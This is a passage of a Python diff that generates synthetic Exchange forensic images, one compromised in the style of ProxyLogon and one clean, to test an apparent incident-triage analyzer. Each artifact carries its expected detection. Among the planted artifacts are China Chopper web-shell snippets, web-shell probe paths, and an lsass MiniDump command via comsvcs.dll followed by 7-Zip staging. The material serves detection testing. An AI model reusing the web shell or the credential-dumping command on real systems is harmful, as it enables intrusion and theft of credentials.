+    # ---- other actors probing for other people's shells: 404 (attempt-only) ----
+    prober = "192.0.2.77"
+    probe_ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                "Chrome/65.0.2345 Safari/537.36")
+    t0 = d(2021, 3, 3, 8, 12, 4, 511)
+    for k, stem in enumerate(["/aspnet_client/shell.aspx", "/aspnet_client/system_web/log.aspx",
+                              "/owa/auth/errorEE.aspx", "/owa/auth/OutlookEN.aspx", "/owa/auth/one.aspx",
+                              "/aspnet_client/aspnet_www.aspx"]):
+        t = t0 + dt.timedelta(seconds=3 * k, milliseconds=rng.randint(0, 900))
+        tr = Trace("C12", f"GET {stem} answered 404 from 192.0.2.77 (other actors' shell names)",
+                   "T1505.003", T_ATTEMPT)
+        if stem.startswith("/owa/"):
+            reqs.append(Req(end=t, proto="Owa", method="GET", stem=stem, host=srv.ip, ua=probe_ua, cip=prober,
+                            status=404, proxied=False, owa_encoding=True, latency=12, iis_trace=tr,
+                            proxy_trace=Trace("C12", f"HttpProxy Owa GET {stem} 404 from 192.0.2.77", "T1505.003", T_ATTEMPT)))
+        else:
+            reqs.append(iis_only(t, "GET", stem, probe_ua, 404, tr, cip=prober, lat=9, sub=0, w32=2))
+
+    reqs = finish(srv, reqs)
+    hp_hours = [d(2021, 3, 3, h) for h in range(5, 10)]
+    write_web_logs(tree, srv, reqs, hp_hours,
+                   iis_days=[dt.date(2021, 3, 2), dt.date(2021, 3, 3)],
+                   be_days=[dt.date(2021, 3, 3)],
+                   lower_ext={("Mapi", "2021030307")},
+                   iis_logdir="inetpub/logs/LogFiles",
+                   restart_at=d(2021, 3, 3, 9, 12, 30))
+
+    # ---- ECP Server log ----
+    ecp = LogFile()
+    for h in exchange_header("15.0.0.0", "ECP Server Log", d(2021, 3, 3, 0, 1, 18, 223),
+                             ["TimeStamp", "ServerName", "EventId", "EventData"]):
+        ecp.add(h)
+    adm = srv.users["exadmin"]
+    adm_sid = srv.sid(adm.rid)
+    adm_sess, adm_usid = srv.guid(), srv.guid()
+    atk_sid_user = srv.sid(500)  # the SID leaked through /mapi/emsmdb: CORP\Administrator
+    atk_sess, atk_usid = srv.guid(), srv.guid()
+    vd = srv.oab_vdir_guid
+    url_get = f"/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory"
+    url_set = f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory"
+    url_reset = f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory"
+    dn = (f"CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={srv.short},CN=Servers,"
+          "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Corp,"
+          "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=local")
+    ecp_rows = [
+        (d(2021, 3, 3, 0, 1, 18, 301), 211, srv.guid(), "Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=Hx2mR0pQ7vT1wY9kL4nC8bF3dG6jA5sE0uI2oZ1xV7cB9nM4lK3jH6gF5dS8aP0qW.", "", None),
+        (d(2021, 3, 3, 6, 49, 51, 389), 34, atk_sess, "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", url_get, "", None),
+        (d(2021, 3, 3, 6, 49, 51, 497), 12, atk_sess, "Pipeline.1|Get-MailboxRegionalConfiguration", url_get, "", None),
+        (d(2021, 3, 3, 6, 49, 53, 772), 58, atk_sess,
+         f"Set-OabVirtualDirectory.ExternalUrl='{CHOPPER_URL}'.Identity='{vd}'", url_set, "",
+         Trace("C05", "Set-OabVirtualDirectory.ExternalUrl='http://f/<script ...>eval(Request[\"klk123456\"],\"unsafe\")...' (Chopper key klk123456)",
+               "CVE-2021-27065 / T1190, T1505.003", T_CONFIRMED)),
+        (d(2021, 3, 3, 6, 49, 53, 834), 9, atk_sess, f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{vd}'", url_set, "", None),
+        (d(2021, 3, 3, 6, 49, 56, 284), 41, atk_sess, f"Get-OABVirtualDirectory.Identity='{vd}'", url_reset, "",
+         Trace("C05", "S:URL with schema=ResetOABVirtualDirectory (reset writes the vdir dump, script included, to a chosen path)",
+               "CVE-2021-27065 / T1190, T1505.003", T_LIKELY)),
+        (d(2021, 3, 3, 6, 49, 56, 420), 18, atk_sess, f"Get-ExchangeServer.Identity='{srv.short}'", url_reset, "", None),
+        (d(2021, 3, 3, 6, 49, 56, 917), 402, atk_sess,
+         f"Remove-OABVirtualDirectory.Force=$true.Identity='{srv.short}\\OAB (Default Web Site)'", url_reset, "",
+         Trace("C05", "Remove-OABVirtualDirectory within 1 h of the confirmed row (vdir recreated)", "CVE-2021-27065 / T1070", T_LIKELY)),
+        (d(2021, 3, 3, 6, 49, 57, 611), 655, atk_sess,
+         (f"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{srv.short}'.Role='ClientAccess'"
+          f".InternalURL='https://{srv.fqdn}/OAB'.Path='{exw}\\FrontEnd\\HttpProxy\\OAB'"), url_reset, "",
+         Trace("C05", "New-OABVirtualDirectory within 1 h of the confirmed row", "CVE-2021-27065 / T1070", T_LIKELY)),
+        (d(2021, 3, 3, 6, 49, 58, 835), 27, atk_sess, f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{vd}'", url_set,
+         (f"Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on DC01.corp.local. "
+          f"The object '{dn}' does not exist.\\r\\n\\r\\nThe object does not exist.\\r\\n"),
+         Trace("C05", "clean-up: Set-OabVirtualDirectory.ExternalUrl=$null (fails: vdir was recreated)", "CVE-2021-27065 / T1070", "context (noted with the C05 finding)")),
+        (d(2021, 3, 3, 6, 49, 58, 890), 8, atk_sess,
+         f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{srv.short}\\OAB (Default Web Site)'", url_set, "", None),
+        (d(2021, 3, 3, 8, 36, 15, 531), 604, adm_sess, "Get-Mailbox.ResultSize='500'.RecipientTypeDetails='UserMailbox'",
+         f"/ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary={admin_canary}", "", None),
+        (d(2021, 3, 3, 8, 36, 15, 702), 41, adm_sess, "Pipeline.1|Get-MailboxRegionalConfiguration",
+         f"/ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary={admin_canary}", "", None),
+    ]
+    for t, ms, sess, cmd, url, ex, tr in ecp_rows:
+        usid = atk_usid if sess == atk_sess else (adm_usid if sess == adm_sess else srv.guid())
+        data = ecp_server_data(srv, ms, sess, cmd, url, srv.guid(), usid, ex)
+        ecp.add(csv_line([iso_ms(t), srv.short, "ECP.Request", data]), tr)
+    tree.write_log(f"{srv.exch_rel}/Logging/ECP/Server/ECPServer20210303-1.LOG", ecp, bom=True)
+
+    act = LogFile()
+    for h in exchange_header("15.0.0.0", "ECP Activity Context Log", d(2021, 3, 3, 0, 1, 18, 198),
+                             ["TimeStamp", "ServerName", "EventId", "EventData"]):
+        act.add(h)
+    be = f"https://{srv.fqdn}:444"
+    act_rows = [
+        (d(2021, 3, 3, 0, 1, 18, 305), f"{srv.health}@{srv.dom}",
+         "https://localhost:444/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=Hx2mR0pQ7vT1wY9kL4nC8bF3dG6jA5sE0uI2oZ1xV7cB9nM4lK3jH6gF5dS8aP0qW.", None),
+        (d(2021, 3, 3, 6, 49, 46, 198), "", f"{be}/ecp/proxyLogon.ecp",
+         Trace("C04", "ECP activity: proxyLogon.ecp reached the back end (session for SID ...-500)", "CVE-2021-26855 / T1190", "context (C04 evidence)")),
+        (d(2021, 3, 3, 6, 49, 51, 530), f"administrator@{srv.dom}", f"{be}{url_get}", None),
+        (d(2021, 3, 3, 6, 49, 53, 830), f"administrator@{srv.dom}", f"{be}{url_set}", None),
+        (d(2021, 3, 3, 6, 49, 57, 677), f"administrator@{srv.dom}", f"{be}{url_reset}",
+         Trace("C04", "ECP activity: SetObject schema=ResetOABVirtualDirectory reached the back end (same canary)", "CVE-2021-27065 / T1190", "context (C04 evidence)")),
+        (d(2021, 3, 3, 6, 49, 58, 894), f"administrator@{srv.dom}", f"{be}{url_set}", None),
+        (d(2021, 3, 3, 8, 36, 15, 720), f"exadmin@{srv.dom}",
+         f"{be}/ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary={admin_canary}", None),
+    ]
+    for t, psa, url, tr in act_rows:
+        act.add(csv_line([iso_ms(t), srv.short, "Request",
+                          ecp_activity_data(srv, psa, url, srv.guid(), f"Dbl:WLM.TS={rng.randint(0, 40)}")]), tr)
+    tree.write_log(f"{srv.exch_rel}/Logging/ECP/Activity/ECPActivity_5512_20210303-1.LOG", act, bom=True)
+
+    # ---- OABGenerator ----
+    oab = LogFile()
+    for h in exchange_header(srv.ver_header, "OABGenerator Log", d(2021, 3, 3, 0, 12, 3, 47), OAB_FIELDS):
+        oab.add(h)
+    oabn = "\\Default Offline Address Book"
+    oab_temp = f"{exw}\\ClientAccess\\OAB\\Temp\\LZXhzdmgalp.djs"
+    oab_rows = [
+        (d(2021, 3, 3, 0, 12, 3, 51), "Info", "OABGeneratorAssistant",
+         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 411.", None),
+        (d(2021, 3, 3, 0, 12, 31, 877), "Info", "OABGenerator",
+         "Downloaded 2 files, 18342 bytes, from the previous OAB version.", None),
+        (d(2021, 3, 3, 0, 12, 47, 302), "Warning", "OABFileHandler",
+         f"Download failed and temporary file '{oab_temp}' needs to be removed",
+         Trace("C07", "benign: temporary file inside <exch>\\ClientAccess\\OAB\\Temp (CSS-Exchange #320)", "CVE-2021-26858", T_NONE)),
+        (d(2021, 3, 3, 0, 13, 9, 664), "Info", "OABGeneratorAssistant",
+         f"OAB generation for '{oabn}' completed: sequence 412, 1 full, 1 differential, 412 recipients.", None),
+        (d(2021, 3, 3, 6, 50, 11, 93), "Error", "OABFileHandler",
+         f"Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{oab_shell}' needs to be removed",
+         Trace("C07", f"CVE-2021-26858 write outside ClientAccess\\OAB: C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{oab_shell} (file exists with shell content)",
+               "CVE-2021-26858 / T1190, T1505.003", T_CONFIRMED)),
+        (d(2021, 3, 3, 8, 12, 2, 448), "Info", "OABGeneratorAssistant",
+         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 412.", None),
+        (d(2021, 3, 3, 8, 12, 40, 5), "Info", "OABGeneratorAssistant",
+         f"OAB generation for '{oabn}' completed: no changes, sequence 412 kept.", None),
+    ]
+    for t, lvl, comp, msg, tr in oab_rows:
+        oab.add(csv_line([iso_ms(t), srv.short, 6124, rng.randint(8, 60), lvl, comp, oabn, msg]), tr)
+    tree.write_log(f"{srv.exch_rel}/Logging/OABGeneratorLog/OABGenerator_20210303-1.LOG", oab, bom=True)
+
+    # ---- Rps cmdlet log (benign admin + health probe noise) ----
+    rps = LogFile()
+    for h in exchange_header(srv.ver_header, "Rps Cmdlet Logs", d(2021, 3, 3, 8, 3, 14, 607), RPS_CMDLET_FIELDS):
+        rps.add(h)
+    hmb = f"{srv.netbios}\\{srv.health}"
+    ex = f"{srv.netbios}\\exadmin"
+    for t, user, sid, isadm, app, cmd, params in [
+        (d(2021, 3, 3, 8, 3, 14, 607), hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'),
+        (d(2021, 3, 3, 8, 41, 2, 101), ex, srv.sid(1105), True, "ManagementShell", "Get-ExchangeServer", ""),
+        (d(2021, 3, 3, 8, 41, 9, 712), ex, srv.sid(1105), True, "ManagementShell", "Get-Mailbox", '-ResultSize "Unlimited" -RecipientTypeDetails "UserMailbox"'),
+        (d(2021, 3, 3, 8, 43, 27, 280), ex, srv.sid(1105), True, "ManagementShell", "Get-OabVirtualDirectory", f'-Server "{srv.short}" -ADPropertiesOnly "True"'),
+        (d(2021, 3, 3, 8, 44, 51, 19), ex, srv.sid(1105), True, "ManagementShell", "Get-MailboxDatabaseCopyStatus", '-Server "EXCH01"'),
+        (d(2021, 3, 3, 8, 58, 36, 842), hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'),
+    ]:
+        rps.add(csv_line(rps_row(srv, t, user, sid, isadm, app, cmd, params)))
+    tree.write_log(f"{srv.exch_rel}/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021030308-1.LOG", rps, bom=True)
+
+    # ---- HTTPERR ----
+    he = LogFile()
+    for h in ["#Software: Microsoft HTTP API 2.0", "#Version: 1.0", "#Date: 2021-03-02 23:14:02",
+              f"#Fields: {HTTPERR_FIELDS}"]:
+        he.add(h)
+    for line in [
+        "2021-03-02 23:14:02 10.0.1.25 51822 10.0.0.10 443 - - - - - - Timer_ConnectionIdle -",
+        "2021-03-03 05:13:58 198.51.100.23 50112 10.0.0.10 443 HTTP/1.1 GET /ecp/%2e%2e%2fdefault.flt - 400 - BadRequest -",
+        "2021-03-03 05:16:39 198.51.100.23 50131 10.0.0.10 443 HTTP/1.1 GET /owa/auth/x.js - - 1 Connection_Dropped MSExchangeOWAAppPool",
+        "2021-03-03 06:48:59 203.0.113.45 40114 10.0.0.10 443 HTTP/1.1 POST /ecp/y.js - 400 - Verb -",
+        "2021-03-03 07:31:44 10.0.2.14 50544 10.0.0.10 443 HTTP/1.1 POST /mapi/emsmdb/?MailboxId=5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f@corp.local - - 1 Connection_Abandoned_By_ReqQueue MSExchangeMapiFrontEndAppPool",
+        "2021-03-03 09:12:27 10.0.1.31 49311 10.0.0.10 443 HTTP/1.1 GET /owa/ - 503 1 AppOffline MSExchangeOWAAppPool",
+    ]:
+        he.add(line)
+    tree.write_log("Windows/System32/LogFiles/HTTPERR/httperr1.log", he)
+
+    # ---- IIS config ----
+    tree.write_text("Windows/System32/inetsrv/config/applicationHost.config",
+                    application_host_config(srv, "%ExchangeInstallPath%"))
+
+    # ---- web folders ----
+    web_folders(tree, srv, "15.1.2176", "ews", "TimeoutLogoff.aspx")
+    wwwroot(tree)
+    tree.write_text(f"{srv.exch_rel}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx",
+                    chopper_one_liner("orange"),
+                    Trace("C09/C10", "look-alike of the allow-listed RedirSuiteServiceProxy.aspx (Server, not Service) in owa\\auth; "
+                                     "China Chopper eval(Request.Item[\"orange\"],\"unsafe\")",
+                          "T1505.003", T_CONFIRMED + " (C09 likely + C10 confirmed)"))
+    tree.write_text(f"inetpub/wwwroot/aspnet_client/system_web/{oab_shell}", oab_dump_shell(srv, exw),
+                    Trace("C09/C10/C07", f"aspnet_client\\system_web\\{oab_shell} (8 random letters): HAFNIUM OAB-config dump "
+                                          "with ExternalUrl http://f/<script ...eval(Request[\"klk123456\"],\"unsafe\")...>, "
+                                          "InternalAuthenticationMethods, ExtendedProtectionTokenChecking",
+                          "CVE-2021-27065, CVE-2021-26858 / T1505.003", T_CONFIRMED))
+    tree.write_text(f"inetpub/wwwroot/aspnet_client/{chopper2}", chopper_one_liner("Ananas"),
+                    Trace("C09/C10", f"aspnet_client\\{chopper2}: one-line China Chopper (name IOC discover.aspx)",
+                          "T1505.003", T_CONFIRMED))
+
+    # ---- dumps, staging, lateral movement ----
+    dump1 = build_minidump(int(d(2021, 3, 3, 7, 47, 12).timestamp()), 40960, seed=11)
+    tree.write_bytes("Windows/Temp/debug01.tmp", dump1,
+                     Trace("C13", "MDMP minidump named debug01.tmp; ModuleListStream first module C:\\Windows\\System32\\lsass.exe; "
+                                  "TimeDateStamp 2021-03-03T07:47:12Z", "T1003.001", T_CONFIRMED))
+    dump2 = build_minidump(int(d(2021, 3, 3, 7, 20, 41).timestamp()), 12288, seed=12)
+    tree.write_bytes("root/lsass.dmp", dump2,
+                     Trace("C13", "MDMP minidump root\\lsass.dmp (name + lsass.exe first module); TimeDateStamp 2021-03-03T07:20:41Z",
+                           "T1003.001", T_CONFIRMED))
+    srng = random.Random(7)
+    tree.write_bytes("ProgramData/it.7z", bytes.fromhex("377ABCAF271C0004") + srng.randbytes(2040),
+                     Trace("C14", "7z magic 37 7A BC AF 27 1C at root-level ProgramData\\it.7z (score +40; +20 if its file time is in the window)",
+                           "T1560.001, T1074.001", T_INFO + " (score 40; likely only at >= 60)"))
+    tree.write_bytes("ProgramData/McAfee/Common Framework/Backup/config.zip",
+                     vendor_zip({"SiteList.xml": "<?xml version=\"1.0\"?>\r\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign vendor backup -->\r\n<SiteLists><SiteList Default=\"1\" Name=\"SomeGUID\"/></SiteLists>\r\n",
+                                 "agent.ini": "; EXTRIAGE SYNTHETIC SAMPLE - benign vendor backup\r\n[Agent]\r\nAgentGUID={00000000-0000-0000-0000-000000000000}\r\n"}),
+                     Trace("C14", "benign deep vendor archive (PK\\x03\\x04) under ProgramData\\McAfee\\... (score -30)",
+                           "T1560.001", T_INFO + " (listed, never hidden)"))
+    tree.write_bytes("Windows/PSEXESVC.exe",
+                     b"MZ" + b"\x90\x00" + b"EXTRIAGE SYNTHETIC SAMPLE - placeholder for PsExec's service binary, not a program\r\n",
+                     Trace("C16", "Windows\\PSEXESVC.exe (PsExec service residue)", "T1569.002, T1021.002", T_LIKELY))
+    tree.write_bytes("Windows/PSEXEC-WKS042-A1B2C3D4.key", srng.randbytes(32),
+                     Trace("C16", "Windows\\PSEXEC-WKS042-A1B2C3D4.key: PsExec from source host WKS042", "T1569.002, T1021.002", T_LIKELY))
+
+    # ---- benign noise in hunting grounds ----
+    tree.write_text("Windows/Temp/MpSigStub.log",
+                    "EXTRIAGE SYNTHETIC SAMPLE - benign\n"
+                    "------------------------------------------------------------\n"
+                    "Product Version: 4.18.2101.9 Service: MpSigStub.exe Start Time: Tue Mar 02 2021 03:11:42\n"
+                    "Command: /stub 1.1.17800.5 /payload 1.333.1106.0 /program C:\\Windows\\SoftwareDistribution\\Download\\Install\\AM_Delta_Patch_1.333.1106.0.exe\n"
+                    "Status: 0x00000000\n")
+    tree.write_text("Windows/Temp/tmpA41C.tmp",
+                    "EXTRIAGE SYNTHETIC SAMPLE - benign Windows Update scratch file\nKB5000803 staged\n")
+    tree.write_text("Users/Administrator/AppData/Local/Temp/wuahandler.log",
+                    "EXTRIAGE SYNTHETIC SAMPLE - benign\n2021-03-01 22:05:13 CU scan completed, 0 updates\n")
+    hist = LogFile()
+    hist_lines = [
+        ("Get-ExchangeServer | Format-List Name,AdminDisplayVersion", None),
+        ("Get-Mailbox -ResultSize 10", None),
+        ("Get-MailboxDatabaseCopyStatus", None),
+        ("whoami /all", None),
+        ("tasklist /svc | findstr lsass", None),
+        ("rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\debug01.tmp full",
+         Trace("C13", "comsvcs.dll MiniDump of lsass (PID 624) into C:\\windows\\temp\\debug01.tmp", "T1003.001", T_CONFIRMED)),
+        ("dir C:\\windows\\temp", None),
+        ('& "C:\\Program Files\\7-Zip\\7z.exe" a -t7z C:\\ProgramData\\it.7z C:\\windows\\temp\\debug01.tmp -mx9',
+         Trace("C14", "7-Zip packs the dump into C:\\ProgramData\\it.7z (context for the it.7z archive)", "T1560.001", "context (raises C14 score)")),
+        ("Get-ChildItem C:\\ProgramData\\it.7z", None),
+        ("exit", None),
+    ]
+    for text, tr in hist_lines:
+        hist.add(text, tr)
+    tree.write_log("Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", hist)
+
+    # ---- registry placeholders, event log folder ----
+    tree.write_bytes("Windows/System32/config/SYSTEM", regf_placeholder("SYSTEM", d(2021, 3, 3, 9, 40)))
+    tree.write_bytes("Windows/System32/config/SOFTWARE", regf_placeholder("SOFTWARE", d(2021, 3, 3, 9, 41)))
+    tree.write_bytes("Windows/System32/winevt/Logs/.gitkeep", b"")
+
+    # Informational context the analyzer should also produce.
+    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/Ecp/HttpProxy_2021030305-1.LOG", 2,
+                   Trace("C02", "#Version: 15.01.2176.002 = Exchange 2016 CU19 without the March 2021 SU (fixed: 15.1.2176.9): vulnerable",
+                         "all four ProxyLogon CVEs", T_INFO))
+    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/", None,
+                   Trace("C01", "HttpProxy coverage 2021-03-03T05:00Z-09:59Z only (older hours aged out); IIS W3SVC1 from 2021-03-02T00:00Z",
+                         "T1070 (context)", T_INFO))
+    tree.add_trace(f"{srv.exch_rel}/Logging/ECP/Server/ECPServer20210303-1.LOG", 2,
+                   Trace("C02", "ECP logs really write the placeholder #Version: 15.0.0.0; the build comes from S:BLD=15.1.2176.2",
+                         "-", T_NONE + " as a build"))
+    tree.add_trace("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", None,
+                   Trace("C09", "zero-byte git placeholder that keeps the empty stock folder (see README)", "-", T_NONE))
+    return tree
+
+
+# --------------------------------------------------------------------------------------
+# Image 2: Exchange 2019 CU12 + Nov 2022 SU, clean, non-default install path
+# --------------------------------------------------------------------------------------
+
+def make_clean(root: pathlib.Path) -> Tree:
+    tree = Tree(root)
+    rng = random.Random(20221207)
+    srv = Server(
+        short="EXCH19", fqdn="exch19.corp.local", ip="10.0.0.19", ext_host="mail.corp.example",
+        dom="corp.local", netbios="CORP", domain_sid="S-1-5-21-1004336348-1177238915-682003330",
+        build=(15, 2, 1118, 20), exch_rel="Exchange/V15", exch_win=r"C:\Exchange\V15",
+        folders={"Autodiscover": "Autodiscover", "Eas": "Eas", "Ecp": "Ecp", "Ews": "Ews",
+                 "Mapi": "Mapi", "Oab": "OAB", "Owa": "OWA", "PowerShell": "PowerShell"},
+        health="HealthMailbox41b7c0e9a3d24f56b8e1c7a9d0f3e2b4",
+        health_guid="7e1c3a5d-9b2f-4d6e-8a0c-1e3f5b7d9a2c",
+        oab_guid="b4d6f8a0-2c4e-4a6c-8e0a-4c6e8a0c2e4a",
+        oab_vdir_guid="e2a4c6e8-0a2c-4e6a-9c2e-6a8c0e2a4c6e",
+        users={}, rng=rng, os_build="5.1.17763.3770")
+    chrome = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+              "Chrome/108.0.0.0 Safari/537.36")
+    outlook = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15831; Pro)"
+    srv.users = {
+        "jdoe": User("jdoe", 1108, "10.0.1.25", chrome, outlook, "8b2c4e6a-1d3f-4a5b-9c7e-0f1a2b3c4d5e"),
+        "msmith": User("msmith", 1112, "10.0.1.31",
+                       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.1 Safari/605.1.15",
+                       "MacOutlook/16.67.22111300 (Intelx64 Mac OS X 13.0.1 (Build 22A400))",
+                       "2e4f6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a7c"),
+        "akhan": User("akhan", 1125, "10.0.2.14",
+                      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Edg/108.0.1462.42",
+                      outlook, "5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f"),
+        "lchen": User("lchen", 1131, "100.64.12.9", "", "Apple-iPhone14C2/2002.96",
+                      "9c1e3a5b-7d9f-4c1e-8b3d-5f7a9c1e3b5d"),
+        "exadmin": User("exadmin", 1105, "10.0.0.50", chrome, outlook, "1f3b5d7a-9c2e-4f6a-8d0b-2c4e6a8b0d1f"),
+    }
+    reqs = ordinary_traffic(srv, d(2022, 12, 6, 0), d(2022, 12, 7, 11, 55))
+    admin_canary = "Fq8nW2xK5zR1tY7pL3mC9vB0hD4gJ6sA2eU8iO5oP1qS7tV3wX9zY4bN0mC6lA2kH8jG."
+    ecp_reqs = admin_ecp(srv, srv.users["exadmin"], d(2022, 12, 7, 10, 21, 4, 118), admin_canary)
+    # Benign OAB vdir change by a named admin through ECP: a normal https URL.
+    ecp_reqs.append(Req(end=d(2022, 12, 7, 10, 23, 40, 662), proto="Ecp", method="POST",
+                        stem="/ecp/DDI/DDIService.svc/SetObject",
+                        query=f"schema=OABVirtualDirectory&msExchEcpCanary={admin_canary}",
+                        host=srv.fqdn, cip=srv.users["exadmin"].ip, ua=chrome, iis_user="CORP\\exadmin",
+                        auth_type="FBA", is_auth=True, auth_user="CORP\\exadmin",
+                        anchor=f"Sid~{srv.sid(1105)}", routing_hint="EcpOwaCookie-Sid", latency=1204,
+                        proxy_trace=Trace("C05/C06", "benign admin SetObject schema=OABVirtualDirectory (authenticated, Sid~ anchor)",
+                                          "-", T_NONE),
+                        be_trace=Trace("C06", "benign W3SVC2 SetObject schema=OABVirtualDirectory by CORP\\exadmin (no Reset, no $)",
+                                       "-", T_NONE)))
+    reqs += ecp_reqs
+    reqs += [admin_ps(srv, srv.users["exadmin"], d(2022, 12, 7, 9, 5, 51, 300), "Get-ExchangeServer:Command"),
+             admin_ps(srv, srv.users["exadmin"], d(2022, 12, 7, 9, 6, 3, 18), "Get-MailboxDatabase:Command")]
+    # Outlook's REST autodiscover (autodiscover.json with '@' in the path but no /powershell): FP trap.
+    u = srv.users["jdoe"]
+    reqs.append(Req(end=d(2022, 12, 7, 9, 31, 17, 402), proto="Autodiscover", method="GET",
+                    stem=f"/autodiscover/autodiscover.json/v1.0/jdoe@{srv.dom}",
+                    query="Protocol=ActiveSync&RedirectCount=1", host=srv.ext_host, cip=u.ip,
+                    ua="Outlook-iOS/709.2226530.prod.iphone (4.2247.0)", auth_type="", is_auth=False,
+                    anchor=f"Smtp~jdoe@{srv.dom}", routing_hint="AutodiscoverJsonSmtp", latency=22,
+                    iis_trace=Trace("§4.1/§4.2", "benign autodiscover.json request with '@' but no /powershell, /mapi/nspi, /EWS or X-Rps-CAT",
+                                    "-", T_NONE)))
+    reqs = finish(srv, reqs)
+    write_web_logs(tree, srv, reqs, [d(2022, 12, 7, h) for h in range(8, 12)],
+                   iis_days=[dt.date(2022, 12, 6), dt.date(2022, 12, 7)],
+                   be_days=[dt.date(2022, 12, 6), dt.date(2022, 12, 7)],
+                   lower_ext=set(), iis_logdir="inetpub/logs/LogFiles")
+
+    # ECP Server + Activity logs (lower-case .log on the Server log, on purpose).
+    ecp = LogFile()
+    for h in exchange_header("15.0.0.0", "ECP Server Log", d(2022, 12, 7, 0, 0, 41, 19),
+                             ["TimeStamp", "ServerName", "EventId", "EventData"]):
+        ecp.add(h)
+    sess, usid = srv.guid(), srv.guid()
+    getlist = f"/ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary={admin_canary}"
+    setobj = f"/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={admin_canary}"
+    for t, ms, s, cmd, url, tr in [
+        (d(2022, 12, 7, 0, 0, 41, 88), 198, srv.guid(), "Get-InboxRule",
+         "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=Tk4mW9pR2xV7yB1nC5hL8sD0gF3jA6eQ2uI9oZ4xV1cB7nM0lK5jH2gF8dS3aP6qW.", None),
+        (d(2022, 12, 7, 10, 21, 7, 240), 588, sess, "Get-Mailbox.ResultSize='500'.RecipientTypeDetails='UserMailbox'", getlist, None),
+        (d(2022, 12, 7, 10, 21, 7, 402), 37, sess, "Pipeline.1|Get-MailboxRegionalConfiguration", getlist, None),
+        (d(2022, 12, 7, 10, 23, 40, 540), 1102, sess,
+         f"Set-OabVirtualDirectory.ExternalUrl='https://{srv.ext_host}/OAB'.Identity='{srv.oab_vdir_guid}'", setobj,
+         Trace("C05", "benign Set-OabVirtualDirectory with an absolute https ExternalUrl by CORP\\exadmin", "-", T_NONE)),
+        (d(2022, 12, 7, 10, 23, 40, 611), 12, sess,
+         f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{srv.oab_vdir_guid}'", setobj, None),
+    ]:
+        ecp.add(csv_line([iso_ms(t), srv.short, "ECP.Request",
+                          ecp_server_data(srv, ms, s, cmd, url, srv.guid(), usid if s == sess else srv.guid())]), tr)
+    tree.write_log(f"{srv.exch_rel}/Logging/ECP/Server/ECPServer20221207-1.log", ecp, bom=True)
+    act = LogFile()
+    for h in exchange_header("15.0.0.0", "ECP Activity Context Log", d(2022, 12, 7, 0, 0, 41, 2),
+                             ["TimeStamp", "ServerName", "EventId", "EventData"]):
+        act.add(h)
+    be = f"https://{srv.fqdn}:444"
+    for t, psa, url in [
+        (d(2022, 12, 7, 0, 0, 41, 92), f"{srv.health}@{srv.dom}",
+         "https://localhost:444/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=Tk4mW9pR2xV7yB1nC5hL8sD0gF3jA6eQ2uI9oZ4xV1cB7nM0lK5jH2gF8dS3aP6qW."),
+        (d(2022, 12, 7, 10, 21, 4, 110), f"exadmin@{srv.dom}", f"{be}/ecp/"),
+        (d(2022, 12, 7, 10, 21, 7, 410), f"exadmin@{srv.dom}", f"{be}{getlist}"),
+        (d(2022, 12, 7, 10, 23, 40, 650), f"exadmin@{srv.dom}", f"{be}{setobj}"),
+    ]:
+        act.add(csv_line([iso_ms(t), srv.short, "Request",
